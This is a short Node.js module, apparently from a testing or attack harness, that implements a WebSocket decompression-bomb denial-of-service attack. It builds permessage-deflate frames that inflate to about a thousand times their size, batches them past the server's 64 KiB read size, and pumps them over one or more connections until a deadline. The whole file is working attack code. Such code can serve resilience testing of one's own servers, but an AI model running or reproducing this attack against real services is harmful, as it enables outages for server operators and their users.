// Compressed messages that inflate to a thousand times their size, one behind the other.
import { deflateRawSync, constants } from 'node:zlib';

import { drop, lanes, openWebSocket, pump, text } from './wire.mjs';

// One message as a frame with RSV1 (RFC 7692 section 7.2.1): `size` bytes of text between `before` and `after`.
export function bomb(size, [before, after]) {
  const message = before + 'a'.repeat(size - before.length - after.length) + after;
  const packed = deflateRawSync(message, { level: 9, finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -4);
  return text(packed, { rsv: 4 });
}

export async function attack({ ports, until, port, path, first, size, around, connections = 1 }) {
  const one = bomb(size, around);
  // A read of the server's is 64 KiB: several of them at a time.
  const many = Buffer.concat(Array(Math.ceil(262_144 / one.length)).fill(one));
  const said = { frameBytes: one.length, bytes: 0, opened: 0 };
  await lanes(connections, until, async () => {
    const socket = await openWebSocket(ports[port], path, { deflate: true, first });
    if (!socket) return false;
    ++said.opened;
    said.bytes += await pump(socket, many, until);
    drop(socket);
  });
  return said;
}
